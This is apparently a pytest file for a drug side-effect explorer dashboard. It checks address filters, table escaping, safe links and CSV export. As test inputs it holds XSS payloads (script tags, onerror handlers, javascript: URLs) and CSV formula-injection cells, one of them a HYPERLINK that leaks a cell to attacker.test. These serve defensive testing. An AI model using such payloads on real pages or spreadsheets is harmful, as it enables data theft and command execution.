"""What the dashboard sends to the browser: the address read into filters, option narrowing, HTML
tables (page text always escaped), links (http and https only), CSV links and page counts."""
from __future__ import annotations

import base64
import io

import numpy as np
import pandas as pd
import pytest
from bs4 import BeautifulSoup

from explorer.app.render import (PAGE_SIZE, PICKER_LIMIT, claims_html, csv_data_url, csv_link_html, finding_rows_html,
                                 filters_from_query, narrow, page_count, safe_url, source_links_html, table_html)
from explorer.audit.vocabulary import NOT_CAPTURED
from explorer.explore.filters import FilterState

DRUGS, CONDITIONS = ["Mirena"], ["Back Pain", "Acne"]


def cells(fragment: str) -> list[list[str]]:
    """The body of an HTML table as a browser would read it: one list of cell texts per row."""
    soup = BeautifulSoup(fragment, "html.parser")
    return [[td.get_text() for td in tr.find_all("td")] for tr in soup.select("tbody tr")]


def headings(fragment: str) -> list[str]:
    return [th.get_text() for th in BeautifulSoup(fragment, "html.parser").select("thead th")]


def decoded(data_url: str) -> str:
    prefix = "data:text/csv;charset=utf-8;base64,"
    assert data_url.startswith(prefix)
    return base64.b64decode(data_url[len(prefix):]).decode("utf-8")


# --- the page address -----------------------------------------------------------------------------

def test_address_values_match_case_insensitively_and_come_back_as_the_corpus_spells_them():
    state, notes = filters_from_query("?severity=less-common,SERIOUS&q=pain&condition=acne,BACK%20PAIN",
                                      DRUGS, CONDITIONS)
    assert state == FilterState(conditions=("Acne", "Back Pain"), severities=("less common", "serious"),
                                search="pain")
    assert notes == ()


def test_address_severity_spellings_and_order():
    for spelling in ("less common", "Less-Common", "less_common", "LESS   COMMON"):
        assert filters_from_query(f"severity={spelling}", DRUGS, CONDITIONS)[0].severities == ("less common",)
    # Severities come in level order whatever the address's order; repeats are kept once.
    state, _ = filters_from_query("severity=serious&severity=common&severity=Serious", DRUGS, CONDITIONS)
    assert state.severities == ("common", "serious")


def test_address_keys_repeat_or_take_commas_and_search_words_join():
    state, notes = filters_from_query("drug=mirena&drug=MIRENA&condition=Acne&condition=back pain"
                                      "&search=head&q=ache", DRUGS, CONDITIONS)
    assert state == FilterState(drugs=("Mirena",), conditions=("Acne", "Back Pain"), search="head ache")
    assert notes == ()


def test_unknown_address_keys_and_values_become_notes_not_filters():
    state, notes = filters_from_query("colour=red&drug=Aspirin&severity=nonsense&condition=<script>",
                                      DRUGS, CONDITIONS)
    assert state == FilterState()
    assert notes == ("Ignored 'colour' in the address: not a filter.",
                     "Ignored drug 'Aspirin' from the address: not in this corpus.",
                     "Ignored severity 'nonsense' from the address: not a severity level.",
                     "Ignored condition '<script>' from the address: not in this corpus.")


@pytest.mark.parametrize("query", ["", "?", "drug=", "drug=,,&condition= , "])
def test_an_address_without_values_sets_no_filter(query):
    assert filters_from_query(query, DRUGS, CONDITIONS) == (FilterState(), ())


# --- narrowing a long list ------------------------------------------------------------------------

def test_narrow_keeps_the_options_containing_the_text_in_their_order():
    options = ["Back Pain", "Acne", "pain in the neck", "Painful joints"]
    assert narrow(options, "PAIN") == ["Back Pain", "pain in the neck", "Painful joints"]
    assert narrow(options, "  acne ") == ["Acne"]
    assert narrow(options, "nothing") == []


def test_narrow_lists_at_most_the_limit():
    options = [f"c{i}" for i in range(1000)]
    assert narrow(options, "c1", limit=5) == ["c1", "c10", "c11", "c12", "c13"]
    assert narrow(options, "") == options[:PICKER_LIMIT]


# --- tables ---------------------------------------------------------------------------------------

def side_effects(n: int) -> pd.DataFrame:
    return pd.DataFrame({"source_file": ["f.txt"] * n, "line": range(1, n + 1), "drug": "D", "condition": "C",
                         "tier": "Common", "name": [f"n{i}" for i in range(n)], "description": None})


def test_table_shows_one_page_of_rows_from_start():
    rows = side_effects(45)
    assert headings(table_html(rows)) == ["Drug", "Condition", "Tier", "Side effect", "Description", "Source"]
    first = cells(table_html(rows))
    assert len(first) == PAGE_SIZE and first[0] == ["D", "C", "Common", "n0", "", "f.txt:1"]
    last = cells(table_html(rows, 40, 20))
    assert [r[5] for r in last] == [f"f.txt:{n}" for n in range(41, 46)]
    assert cells(table_html(rows.iloc[:0])) == []


def test_missing_descriptions_are_empty_cells():
    rows = side_effects(3).assign(description=pd.array([None, "said", pd.NA], dtype="string"))
    assert [r[4] for r in cells(table_html(rows))] == ["", "said", ""]
    rows = side_effects(2).assign(description=[np.nan, "said"])
    assert [r[4] for r in cells(table_html(rows))] == ["", "said"]


def test_page_markup_is_text_in_every_column_of_the_table(escaped_corpus):
    rows = escaped_corpus.side_effects
    rows = rows[rows["drug"] == "Examplin"]
    fragment = table_html(rows)
    soup = BeautifulSoup(fragment, "html.parser")
    assert soup.find_all(["script", "img", "b", "i"]) == []
    shown = cells(fragment)
    assert [r[3] for r in shown] == [str(n) for n in rows["name"]]
    assert {r[1] for r in shown} == {"Itchy <b>Skin</b>"}
    assert any('<img src=x onerror="window.pwned = 3' in r[4] for r in shown)  # a description
    # Every column escapes, the source too (a file name may hold markup).
    odd = side_effects(1).assign(drug="<i>D</i>", tier="<u>T</u>", source_file='<a href="x">f</a>.txt',
                                 description="<script>1</script>")
    assert cells(table_html(odd)) == [["<i>D</i>", "C", "<u>T</u>", "n0", "<script>1</script>",
                                      '<a href="x">f</a>.txt:1']]
    soup = BeautifulSoup(table_html(odd), "html.parser")
    assert soup.find_all(["i", "u", "script"]) == []
    # The only link is the source's own page-view link, its text escaped and its address encoded.
    assert [(a["class"], a["href"], a.get_text()) for a in soup.find_all("a")] == [
        (["explorer-page-link"], "?page=%3Ca+href%3D%22x%22%3Ef%3C%2Fa%3E.txt&line=1", '<a href="x">f</a>.txt:1')]


def test_the_tier_column_shows_the_tier_and_keeps_the_pages_words_for_pointing():
    """A general page's tier is the lead-in it was read under ("... include:1-4"): the column names the
    level; the words as written are the chip's title. A tier that names no level keeps its words, cut."""
    lead_in = "Side effects that people taking this medicine commonly report include:1-4"
    rows = side_effects(4).assign(
        tier=[lead_in, "Serious", "Incidence not known", "Reported by a few people in the early weeks of use"],
        severity=pd.Categorical(["common", "serious", None, None], categories=["common", "serious"]))
    fragment = table_html(rows)
    assert [r[2] for r in cells(fragment)] == ["Common", "Serious", "Incidence not known",
                                               "Reported by a few people…"]
    chips = BeautifulSoup(fragment, "html.parser").select("td .explorer-chip")
    assert [c.get("title") for c in chips] == [
        f"Tier on the page: {lead_in}", None, "Tier on the page: Incidence not known (unrecognised tier)",
        "Tier on the page: Reported by a few people in the early weeks of use (unrecognised tier)"]
    assert "explorer-sev-common" in chips[0]["class"] and "explorer-sev-serious" in chips[1]["class"]


def test_page_count_is_at_least_one_and_rounds_up():
    assert [page_count(n) for n in (0, 1, PAGE_SIZE, PAGE_SIZE + 1, 3 * PAGE_SIZE)] == [1, 1, 1, 2, 3]
    assert page_count(10, size=3) == 4


# --- claims and links -----------------------------------------------------------------------------

def test_claims_table_escapes_page_text_and_links_only_http_sources():
    claims = pd.DataFrame({
        "drug": ["D"], "condition": ["<b>C</b>"], "tier": ["Serious"], "claim": ['<img src=x onerror="alert(1)">'],
        "status": [NOT_CAPTURED], "label_term": [pd.NA], "source_file": ["a.txt"], "line": [3],
        "source_url": ['https://a.org/x?a=1&b="><script>alert(2)</script> | javascript:alert(3) | '
                       'http://b.org/y" onmouseover="alert(4)']})
    fragment = claims_html(claims)
    assert headings(fragment) == ["Drug", "Condition", "Tier", "Claim", "Label status", "Label term",
                                  "Label source", "Page source"]
    soup = BeautifulSoup(fragment, "html.parser")
    assert soup.find("img") is None and soup.find("b") is None and soup.find("script") is None
    row = cells(fragment)[0]
    assert row[1] == "<b>C</b>" and row[3] == '<img src=x onerror="alert(1)">' and row[5] == ""
    assert row[7] == "a.txt:3"
    assert [a["href"] for a in soup.select("a.explorer-page-link")] == ["?page=a.txt&line=3"]
    links = [a for a in soup.find_all("a") if "explorer-page-link" not in a.get("class", [])]
    # The first address has no space, so it stays one (escaped) link; the others are shown as text.
    assert [a["href"] for a in links] == ['https://a.org/x?a=1&b="><script>alert(2)</script>']
    assert all(set(a.attrs) == {"href", "target", "rel"} for a in links)
    assert links[0]["rel"] == ["noopener", "noreferrer", "nofollow"] and links[0]["target"] == "_blank"
    assert "javascript:alert(3)" in row[6] and 'http://b.org/y" onmouseover="alert(4)' in row[6]


def test_claims_checked_against_label_text_show_the_labels_words_escaped_beside_the_claim():
    claims = pd.DataFrame({
        "drug": ["D", "D"], "condition": ["C", "C"], "tier": ["Common", "Serious"], "claim": ["Rash", "Fits"],
        "status": ["label adverse reaction", "no label held for this drug"], "label_term": ["Rash", pd.NA],
        "source_file": ["a.txt", "a.txt"], "line": [3, 4],
        "source_url": ["https://dailymed.nlm.nih.gov/dailymed/drugInfo.cfm?setid=s-1", pd.NA],
        "evidence_section": ["6.1 Clinical Trials <i>Experience</i>", pd.NA],
        "evidence_text": ['Rash | 4 | 1 <script>alert("label")</script>', pd.NA],
        "incidence_text": ["4%", pd.NA]})
    fragment = claims_html(claims)
    assert headings(fragment) == ["Drug", "Condition", "Tier", "Claim", "Label status", "Label term",
                                  "Label's words", "Label source", "Page source"]
    soup = BeautifulSoup(fragment, "html.parser")
    assert soup.find("script") is None and soup.find("i") is None  # label text is third-party text too
    words = cells(fragment)[0][6]
    assert words.startswith("6.1 Clinical Trials <i>Experience</i>")
    assert 'Rash | 4 | 1 <script>alert("label")</script> 4%' in words
    assert cells(fragment)[1][6] == ""  # no label: no words shown, nothing invented
    assert [a["href"] for a in soup.find_all("a") if "explorer-page-link" not in a.get("class", [])] == [
        "https://dailymed.nlm.nih.gov/dailymed/drugInfo.cfm?setid=s-1"]


@pytest.mark.parametrize("url", ["https://example.org/a?b=1", "http://example.org", "HTTPS://Example.org/x",
                                 "  https://example.org/padded  "])
def test_safe_url_keeps_absolute_http_addresses(url):
    assert safe_url(url) == url.strip()


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JavaScript://example.org/%0Aalert(1)",
                                 "data:text/html,<script>alert(1)</script>", "ftp://example.org/f",
                                 "/relative/path", "//example.org/no-scheme", "https://", "https:///path",
                                 "https://example.org/a b", "https://example.org/\nx", "", None, pd.NA, np.nan])
def test_safe_url_refuses_everything_else(url):
    assert safe_url(url) is None


def test_source_links_name_the_host_and_keep_other_parts_as_text():
    fragment = source_links_html("https://a.org/x | ftp://b.org/y | http://c.org/<b>z</b>")
    soup = BeautifulSoup(fragment, "html.parser")
    assert [(a["href"], a.get_text()) for a in soup.find_all("a")] == [("https://a.org/x", "a.org"),
                                                                      ("http://c.org/<b>z</b>", "c.org")]
    assert soup.get_text() == "a.org | ftp://b.org/y | c.org" and soup.find("b") is None
    assert source_links_html(None) == "" and source_links_html(pd.NA) == "" and source_links_html(np.nan) == ""


# --- CSV ------------------------------------------------------------------------------------------

def test_csv_link_carries_the_text_unchanged_and_escapes_its_name_and_label():
    text = 'name,description\n"<script>alert(1)</script>","a ""quote"" & more"\nÄ,✓\n'
    soup = BeautifulSoup(csv_link_html(text, 'side "effects".csv', "Download <3 rows>"), "html.parser")
    link = soup.find("a")
    assert decoded(link["href"]) == text
    assert link["download"] == 'side "effects".csv' and link.get_text() == "Download <3 rows>"
    assert set(link.attrs) == {"download", "href"} and soup.find("script") is None
    assert decoded(csv_data_url("")) == ""


def test_rows_csv_cells_never_run_as_spreadsheet_formulas(formula_corpus):
    from explorer.app.render import rows_csv

    back = pd.read_csv(io.StringIO(rows_csv(formula_corpus.side_effects)))
    assert sorted(back["name"]) == ["'+Dizziness", "'-Fainting", "'=HYPERLINK(\"http://attacker.test/?leak=\"&A1,\"Open\")",
                                    "'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert back["description"].str.startswith("a ").all() and pd.api.types.is_integer_dtype(back["line"])


# --- evidence as a reader wants it -----------------------------------------------------------------

def evidence_claims(**extra) -> pd.DataFrame:
    row = {"drug": "D", "condition": "C", "tier": "Serious", "severity": "serious", "claim": "Rash <now>",
           "status": "label adverse reaction", "label_term": "rash", "source_file": "a.txt", "line": 3,
           "source_url": "https://dailymed.nlm.nih.gov/dailymed/drugInfo.cfm?setid=s-1",
           "evidence_section": "adverse_reactions", "evidence_text": "A <b>rash</b> & itching were seen in few.",
           "evidence_marks": "2-13", "incidence_text": "2%",
           "label_url": "https://dailymed.nlm.nih.gov/dailymed/drugInfo.cfm?setid=s-1"}
    row.update(extra)
    return pd.DataFrame([row])


def test_evidence_marks_the_matched_words_after_escaping_them():
    fragment = claims_html(evidence_claims())
    soup = BeautifulSoup(fragment, "html.parser")
    marked = [m.get_text() for m in soup.select(".explorer-evidence-quote mark")]
    assert marked == ["<b>rash</b>"]  # the span is of the raw text; escaped inside the mark
    assert soup.find("b") is None or soup.find("b").get_text() == "2%"
    assert soup.select_one(".explorer-evidence-quote").get_text() == "A <b>rash</b> & itching were seen in few."


@pytest.mark.parametrize("marks", ["", None, "nonsense", "30-10", "0-999", "5-8;6-9"])
def test_evidence_with_marks_it_cannot_use_is_shown_unmarked_and_whole(marks):
    fragment = claims_html(evidence_claims(evidence_marks=marks))
    soup = BeautifulSoup(fragment, "html.parser")
    quote = soup.select_one(".explorer-evidence-quote")
    assert quote.get_text() == "A <b>rash</b> & itching were seen in few."
    assert len(quote.select("mark")) <= 1


def test_evidence_is_clamped_with_the_whole_passage_on_demand():
    row_text = "Rash — Drug, N=100, %: 4; Placebo, N=98, %: 1"
    fragment = claims_html(evidence_claims(evidence_text=row_text, evidence_marks="0-4",
                                           match_note="incidence from Table 2 (Adverse reactions), the drug: Rash 4%"))
    soup = BeautifulSoup(fragment, "html.parser")
    cell = soup.select_one(".explorer-evidence-cell")
    # the quote is clamped by the stylesheet (rows of even height); the details hold the rest
    assert cell.select_one(".explorer-evidence-quote") is not None
    assert "explorer-cell" not in cell.get("class", [])  # the outer 4-line clamp would hide the summary
    details = cell.find("details")
    assert details is not None and details.find("summary") is not None
    items = [li.get_text() for li in details.select("li")]
    assert items == ["Drug, N=100, %: 4", "Placebo, N=98, %: 1"]  # the columns the row's values come from
    assert "incidence from Table 2 (Adverse reactions)" in details.get_text()
    assert [a["href"] for a in details.find_all("a")] == ["https://dailymed.nlm.nih.gov/dailymed/drugInfo.cfm?setid=s-1"]


def test_finding_rows_and_the_page_view_mark_the_evidence_too():
    from explorer.app.pageview import PageText, Line, page_html

    rows = evidence_claims()
    soup = BeautifulSoup(finding_rows_html(rows), "html.parser")
    assert [m.get_text() for m in soup.select(".explorer-evidence-quote mark")] == ["<b>rash</b>"]
    page = page_html(PageText("a.txt", (Line(3, "- Rash <now>: a rash."),)), rows)
    soup = BeautifulSoup(page, "html.parser")
    assert [m.get_text() for m in soup.select(".explorer-claim .explorer-evidence-quote mark")] == ["<b>rash</b>"]
    assert soup.select_one(".explorer-claim details") is not None


# --- curated facts named as such --------------------------------------------------------------------

def test_statuses_from_the_curated_facts_are_named_as_curated_facts_with_their_sources():
    claims = evidence_claims(label_source="curated facts", source_url="https://www.rxlist.com/x | https://docslib.org/y")
    claims = pd.concat([claims, evidence_claims(label_source="label text")], ignore_index=True)
    claims = pd.concat([claims, evidence_claims(label_source=pd.NA, status=NOT_CAPTURED, source_url=pd.NA)],
                       ignore_index=True)
    soup = BeautifulSoup(claims_html(claims), "html.parser")
    chips = [c.get_text() for c in soup.select("tbody .explorer-chip") if "explorer-tier" not in c.get("class", [])
             and c.get_text() != "Serious"]
    assert chips == ["curated facts: adverse reaction", "label adverse reaction", NOT_CAPTURED]
    sources = [row[7] for row in cells(claims_html(claims))]
    assert sources[0] == "curated from www.rxlist.com | docslib.org"
    assert sources[1] == "dailymed.nlm.nih.gov"


def test_a_claims_table_without_label_source_is_of_the_curated_facts():
    claims = evidence_claims().drop(columns=["label_url", "evidence_text"])
    soup = BeautifulSoup(claims_html(claims), "html.parser")
    assert "curated facts: adverse reaction" in soup.get_text() and "label adverse reaction" not in soup.get_text()
    from explorer.app.pageview import PageText, Line, page_html

    page = page_html(PageText("a.txt", (Line(3, "- Rash <now>: a rash."),)), claims)
    assert "curated facts: adverse reaction" in page and "label adverse reaction" not in page
